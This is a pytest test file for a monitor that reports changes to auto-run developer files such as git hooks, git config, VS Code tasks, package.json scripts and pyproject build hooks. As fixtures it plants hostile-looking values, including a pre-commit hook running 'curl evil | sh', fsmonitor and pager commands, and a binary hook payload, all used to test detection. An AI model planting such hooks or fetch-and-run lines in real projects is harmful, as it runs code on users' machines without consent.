"""The parent's watch of the files the user's own tools run (`tether.parent.run.sensitive`): each
place is seen added, modified and deleted with its content, only the part of `package.json` and
`pyproject.toml` that runs counts, nothing is followed through a link or blocks on a FIFO, and
what a list of changes carries is bounded."""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tether.parent.run import sensitive
from tether.parent.run.sensitive import (
    CONTENT_BYTES,
    MAX_TREE_ENTRIES,
    PLACES,
    TOTAL_CONTENT_BYTES,
    changes,
    take,
)

WHOLE_FILES = [p.path for p in PLACES if not p.tree and p.part is None]
TREES = [p.path for p in PLACES if p.tree]


def write(root: Path, rel: str, text: str | bytes, mode: int | None = None) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    if mode is not None:
        path.chmod(mode)
    return path


def listed(root: Path, before: sensitive.Watch) -> dict[str, tuple[str, str]]:
    return {c.path: (c.change, c.content) for c in changes(before, take(root), root)}


def git_repo(root: Path) -> None:
    subprocess.run(["git", "init", "-q", str(root)], check=True)


@pytest.mark.parametrize("rel", WHOLE_FILES)
def test_each_watched_file_is_seen_added_modified_and_deleted_with_its_content(
    tmp_path: Path, rel: str
) -> None:
    before = take(tmp_path)
    write(tmp_path, rel, "first\n")
    assert listed(tmp_path, before) == {rel: ("added", "first\n")}
    before = take(tmp_path)
    write(tmp_path, rel, "second, longer\n")
    assert listed(tmp_path, before) == {rel: ("modified", "second, longer\n")}
    before = take(tmp_path)
    (tmp_path / rel).unlink()
    assert listed(tmp_path, before) == {rel: ("deleted", "")}


@pytest.mark.parametrize("rel", TREES)
def test_every_file_under_a_watched_directory_is_seen(tmp_path: Path, rel: str) -> None:
    write(tmp_path, f"{rel}/old.json", "{}")
    before = take(tmp_path)
    write(tmp_path, f"{rel}/deep/tasks.json", '{"runOn": "folderOpen"}')
    assert listed(tmp_path, before) == {
        f"{rel}/deep/tasks.json": ("added", '{"runOn": "folderOpen"}')
    }


def test_a_planted_hook_and_a_config_command_are_seen_and_sample_hooks_are_not(
    tmp_path: Path,
) -> None:
    git_repo(tmp_path)
    assert any(p.name.endswith(".sample") for p in (tmp_path / ".git" / "hooks").iterdir())
    before = take(tmp_path)
    assert not any(path.endswith(".sample") for path in before.entries)
    write(tmp_path, ".git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/x\n", 0o755)
    write(tmp_path, ".git/hooks/commit-msg.sample", "#!/bin/sh\n# changed sample\n", 0o755)
    subprocess.run(["git", "-C", str(tmp_path), "config", "core.fsmonitor", "touch /tmp/y"])
    got = {c.path: c for c in changes(before, take(tmp_path), tmp_path)}
    assert sorted(got) == [".git/config", ".git/hooks/post-checkout"]
    hook = got[".git/hooks/post-checkout"]
    assert hook.change == "added" and hook.executable and hook.fs_type == "file"
    assert hook.content == "#!/bin/sh\ntouch /tmp/x\n" and hook.runs.startswith("git")
    assert "fsmonitor = touch /tmp/y" in got[".git/config"].content


def test_a_new_repository_is_seen_by_its_config(tmp_path: Path) -> None:
    before = take(tmp_path)
    git_repo(tmp_path)
    got = changes(before, take(tmp_path), tmp_path)
    assert [(c.path, c.change) for c in got] == [(".git/config", "added")]


def test_the_hooks_directory_core_hooks_path_names_is_watched(tmp_path: Path) -> None:
    git_repo(tmp_path)
    subprocess.run(["git", "-C", str(tmp_path), "config", "core.hooksPath", ".githooks"])
    write(tmp_path, ".githooks/pre-commit", "#!/bin/sh\nexit 0\n", 0o755)
    before = take(tmp_path)
    write(tmp_path, ".githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
    write(tmp_path, ".githooks/post-checkout", "#!/bin/sh\n", 0o755)
    got = {c.path: c for c in changes(before, take(tmp_path), tmp_path)}
    assert sorted(got) == [".githooks/post-checkout", ".githooks/pre-commit"]
    assert got[".githooks/pre-commit"].runs == sensitive.HOOKS_PATH


def test_a_submodules_git_directory_is_watched_as_the_repositorys(tmp_path: Path) -> None:
    git_repo(tmp_path)
    sub = tmp_path / ".git" / "modules" / "libs" / "a"
    sub.mkdir(parents=True)
    write(sub, "HEAD", "ref: refs/heads/main\n")
    write(sub, "config", "[core]\n")
    before = take(tmp_path)
    write(sub, "hooks/post-checkout", "#!/bin/sh\n", 0o755)
    write(sub, "config", "[core]\n\tpager = touch /tmp/z\n")
    assert sorted(listed(tmp_path, before)) == [
        ".git/modules/libs/a/config",
        ".git/modules/libs/a/hooks/post-checkout",
    ]


def test_a_git_pointer_file_or_link_is_watched_itself(tmp_path: Path) -> None:
    write(tmp_path, ".git", "gitdir: /elsewhere/.git\n")
    before = take(tmp_path)
    write(tmp_path, ".git", "gitdir: evil\n")
    assert listed(tmp_path, before) == {".git": ("modified", "gitdir: evil\n")}
    before = take(tmp_path)
    (tmp_path / ".git").unlink()
    (tmp_path / ".git").symlink_to("evil")
    assert listed(tmp_path, before) == {".git": ("modified", "(a symbolic link to 'evil')")}


def test_only_the_scripts_of_package_json_count(tmp_path: Path) -> None:
    package = {"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}
    write(tmp_path, "package.json", json.dumps(package))
    before = take(tmp_path)
    write(tmp_path, "package.json", json.dumps({**package, "version": "1.0.1", "deps": {}}))
    assert listed(tmp_path, before) == {}
    write(tmp_path, "package.json", json.dumps({**package, "scripts": {"postinstall": "sh x"}}))
    ((path, (change, content)),) = listed(tmp_path, before).items()
    assert (path, change) == ("package.json", "modified")
    assert json.loads(content) == {"scripts": {"postinstall": "sh x"}}


def test_a_package_json_that_does_not_parse_is_compared_whole(tmp_path: Path) -> None:
    write(tmp_path, "package.json", "{not json")
    before = take(tmp_path)
    write(tmp_path, "package.json", "{not json either")
    assert listed(tmp_path, before) == {"package.json": ("modified", "{not json either")}


def test_only_the_build_hooks_of_pyproject_toml_count(tmp_path: Path) -> None:
    base = '[project]\nname = "x"\ndependencies = []\n'
    backend = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
    write(tmp_path, "pyproject.toml", base + backend)
    before = take(tmp_path)
    write(tmp_path, "pyproject.toml", base.replace("[]", '["httpx"]') + backend)
    assert listed(tmp_path, before) == {}
    hook = '[tool.hatch.build.hooks.custom]\npath = "hook.py"\n'
    write(tmp_path, "pyproject.toml", base + backend + hook)
    ((_, (change, content)),) = listed(tmp_path, before).items()
    assert change == "modified"
    assert json.loads(content)["tool.hatch.build"] == {"hooks": {"custom": {"path": "hook.py"}}}
    before = take(tmp_path)
    write(tmp_path, "pyproject.toml", base + backend.replace("hatchling.build", "evil") + hook)
    ((_, (_, content)),) = listed(tmp_path, before).items()
    assert json.loads(content)["build-system"]["build-backend"] == "evil"


def test_a_rewrite_that_restores_size_and_mtime_is_still_seen(tmp_path: Path) -> None:
    path = write(tmp_path, "Makefile", "all:\n\techo a\n")
    st = path.stat()
    before = take(tmp_path)
    time.sleep(0.01)
    path.write_text("all:\n\techo b\n")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert listed(tmp_path, before) == {"Makefile": ("modified", "all:\n\techo b\n")}


def test_a_link_is_never_followed_and_a_fifo_never_blocks_the_parent(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    write(outside, "secret/tasks.json", "SECRET")
    ws = tmp_path / "ws"
    ws.mkdir()
    before = take(ws)
    (ws / ".vscode").symlink_to(outside / "secret")
    (ws / ".envrc").symlink_to(outside / "secret" / "tasks.json")
    os.mkfifo(ws / "Makefile")
    git = ws / ".git"
    git.mkdir()
    (git / "hooks").symlink_to(outside / "secret")
    got = {c.path: c for c in changes(before, take(ws), ws)}
    assert sorted(got) == [".envrc", ".git/hooks", ".vscode", "Makefile"]
    assert all("SECRET" not in c.content for c in got.values())
    assert got[".vscode"].fs_type == "symlink" and str(outside) in got[".vscode"].content
    assert got["Makefile"].fs_type == "other"


def test_binary_content_is_named_not_copied(tmp_path: Path) -> None:
    git_repo(tmp_path)
    before = take(tmp_path)
    write(tmp_path, ".git/hooks/pre-commit", b"\x7fELF\x02\x01\x00\x00payload", 0o755)
    ((_, (_, content)),) = listed(tmp_path, before).items()
    assert content == "(binary, 15 bytes)"


def test_what_a_list_of_changes_carries_is_bounded(tmp_path: Path) -> None:
    git_repo(tmp_path)
    before = take(tmp_path)
    for i in range(40):
        write(tmp_path, f".git/hooks/h{i:02}", "x" * (CONTENT_BYTES * 2))
    got = changes(before, take(tmp_path), tmp_path)
    assert len(got) == 40
    assert all(len(c.content) <= CONTENT_BYTES for c in got)
    assert sum(len(c.content) for c in got) <= TOTAL_CONTENT_BYTES
    assert got[0].truncated and got[0].content == "x" * CONTENT_BYTES
    assert got[-1].content == "" and got[-1].truncated  # past the list's bound: listed anyway


def test_a_directory_too_large_to_compare_is_always_listed(tmp_path: Path) -> None:
    for i in range(MAX_TREE_ENTRIES + 1):
        write(tmp_path, f".idea/f{i}.xml", "<x/>")
    before = take(tmp_path)
    got = changes(before, take(tmp_path), tmp_path)
    assert [(c.path, c.change) for c in got] == [(".idea", "modified")]
    assert "not compared" in got[0].content


def test_an_unwatched_change_is_not_listed(tmp_path: Path) -> None:
    git_repo(tmp_path)
    before = take(tmp_path)
    write(tmp_path, "src/app.py", "print('hi')\n")
    write(tmp_path, ".git/info/exclude", "*.log\n")
    write(tmp_path, "sub/Makefile", "all:\n")  # a nested project's: the delegation's walk sees it
    assert listed(tmp_path, before) == {}


PLACE_NAMES = [*WHOLE_FILES, ".git/config", ".git/hooks/pre-push", ".vscode/tasks.json"]


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    present=st.sets(st.sampled_from(PLACE_NAMES)),
    touched=st.sets(st.sampled_from(PLACE_NAMES)),
    removed=st.sets(st.sampled_from(PLACE_NAMES)),
)
def test_exactly_the_touched_places_are_listed(
    tmp_path_factory: pytest.TempPathFactory,
    present: set[str],
    touched: set[str],
    removed: set[str],
) -> None:
    root = tmp_path_factory.mktemp("ws")
    for rel in present:
        write(root, rel, f"old {rel}\n")
    before = take(root)
    for rel in touched:
        write(root, rel, f"new {rel}\n")
    for rel in removed - touched:
        (root / rel).unlink(missing_ok=True)
    expected = {
        **{rel: "modified" if rel in present else "added" for rel in touched},
        **{rel: "deleted" for rel in (removed - touched) & present},
    }
    got = {c.path: c.change for c in changes(before, take(root), root)}
    assert got == expected
